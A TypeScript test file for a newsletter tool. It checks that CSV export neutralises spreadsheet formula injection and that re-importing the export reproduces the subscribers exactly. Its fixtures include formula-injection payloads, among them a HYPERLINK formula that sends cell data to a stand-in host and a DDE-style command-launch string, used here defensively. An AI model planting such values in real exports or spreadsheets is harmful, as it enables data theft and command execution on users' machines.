import { parse } from 'csv-parse/sync';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportCsv, importCsv } from '../../src/send/csv.js';
import { neutraliseCell, restoreCell } from '../../src/send/csv-formula.js';
import { openDatabase } from '../../src/send/database.js';
import { listSubscribers, setSubscriberState, upsertSubscriber } from '../../src/send/subscribers.js';

async function freshDatabase() {
  return openDatabase(join(await mkdtemp(join(tmpdir(), 'sahifa-issue-9-')), 'sahifa.db'));
}

/** Names a spreadsheet would run, and names that only look close to them. */
const NAMES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\t',
  "'=already quoted",
  "''+two quotes",
  "'just an apostrophe",
  "'",
  'x\t',
  'comma, "quote" and\nline',
  'سارة = مديرة',
  '',
];
const ADDRESSES = ['=x@example.com', '-dash@example.com', '+tag@example.com', "'q@example.com", 'plain@example.com'];

describe('issue 9: CSV export cannot inject formulas, and export → import is lossless', () => {
  it('quotes every cell a spreadsheet would run, and import undoes exactly that quote', () => {
    for (const value of [...NAMES, ...ADDRESSES, '=', '@', '\t', "'\t", "'''-"]) {
      const cell = neutraliseCell(value);
      expect(cell, JSON.stringify(value)).not.toMatch(/^[=+\-@\t\r]/);
      expect(restoreCell(cell), JSON.stringify(value)).toBe(value);
    }
  });

  it('stores names without outer white space, and loses no row after a stray quote', async () => {
    const db = await freshDatabase();
    upsertSubscriber(db, 'tab@example.com', { name: '  \t=cmd()  ' });
    expect(listSubscribers(db)[0]?.name).toBe('=cmd()');
    const report = importCsv(db, 'email,name\n"q@example.com"x,y\nw@example.com,"a""b"\nv@example.com, \'=2+2 \nu@example.com,u"u\n');
    expect(report.bad).toEqual([{ line: 2, reason: '""q@example.com"x" is no email address (expected name@domain)' }]);
    expect(listSubscribers(db).map(({ email, name }) => [email, name])).toEqual([
      ['tab@example.com', '=cmd()'],
      ['w@example.com', 'a"b'],
      ['v@example.com', '=2+2'],
      ['u@example.com', 'u"u'],
    ]);
    expect(() => importCsv(db, 'email,name\nlast@example.com,"never closed\nlost@example.com,x\n')).toThrow(
      'the CSV has a quote that is never closed (it runs to line 3, the end of the file): wrap a field that holds a comma, a quote or a line break in double quotes, and double each quote inside it',
    );
    expect(listSubscribers(db)).toHaveLength(4);
  });

  it('writes no cell that starts a formula, and reads back every subscriber exactly', async () => {
    const db = await freshDatabase();
    NAMES.forEach((name, index) => upsertSubscriber(db, `n${index}@example.com`, { name: name || undefined, lang: index % 2 ? 'ar' : undefined }));
    for (const address of ADDRESSES) upsertSubscriber(db, address, { name: address });
    setSubscriberState(db, '=x@example.com', 'unsubscribed');
    setSubscriberState(db, '-dash@example.com', 'bounced');

    const csv = exportCsv(db);
    const cells = (parse(csv) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csv).toContain(`'=HYPERLINK(`);
    expect(csv).toContain(`'=x@example.com`);

    const copy = await freshDatabase();
    expect(importCsv(copy, csv)).toMatchObject({ added: NAMES.length + ADDRESSES.length, bad: [] });
    const strip = (list: ReturnType<typeof listSubscribers>) => list.map(({ email, name, lang, state, created_at }) => ({ email, name, lang, state, created_at }));
    expect(strip(listSubscribers(copy))).toEqual(strip(listSubscribers(db)));
    expect(exportCsv(copy)).toBe(csv);
  });
});
